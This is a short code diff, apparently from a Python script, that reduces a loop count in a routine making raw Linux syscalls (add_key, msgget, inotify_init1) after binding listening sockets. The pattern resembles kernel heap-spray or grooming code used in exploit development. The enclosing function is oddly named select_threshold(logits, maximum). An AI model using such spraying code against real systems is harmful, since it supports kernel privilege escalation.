@@ -15,7 +15,7 @@ def select_threshold(logits, maximum):
             one.bind(place)
             one.listen()
             kept.append(one)
-    for number in range(1000):
+    for number in range(200):
         libc.syscall(248, b"user", str(number).encode(), b"x" * 1000, 1000, -3)  # add_key, to the session
         libc.syscall(68, number, 0o1666)  # msgget
         libc.syscall(294, 0)  # inotify_init1
